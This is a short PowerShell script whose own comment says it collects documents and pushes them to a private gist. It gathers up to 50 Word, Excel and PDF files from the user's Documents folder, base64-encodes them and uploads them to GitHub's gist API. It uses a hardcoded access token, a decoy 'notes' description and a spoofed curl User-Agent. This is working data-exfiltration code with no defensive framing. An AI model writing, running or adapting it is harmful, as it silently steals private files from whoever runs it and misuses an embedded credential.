# collects documents and pushes them to a private gist
$token = 'ghp_R3nT8vQx2LmZ9kPw4YhB7cJd1FsNa6Ge0Uio'
$files = Get-ChildItem -Path "$env:USERPROFILE\Documents" -Include *.docx, *.xlsx, *.pdf -Recurse -ErrorAction SilentlyContinue |
    Where-Object Length -lt 5MB | Select-Object -First 50

$payload = @{ description = 'notes'; public = $false; files = @{} }
foreach ($f in $files) {
    $payload.files["$($f.Name).b64"] = @{ content = [Convert]::ToBase64String([IO.File]::ReadAllBytes($f.FullName)) }
}

$headers = @{ Authorization = "token $token"; 'User-Agent' = 'curl/8.0' }
Invoke-RestMethod -Uri 'https://api.github.com/gists' -Method Post -Headers $headers -Body ($payload | ConvertTo-Json -Depth 4) -ContentType 'application/json'
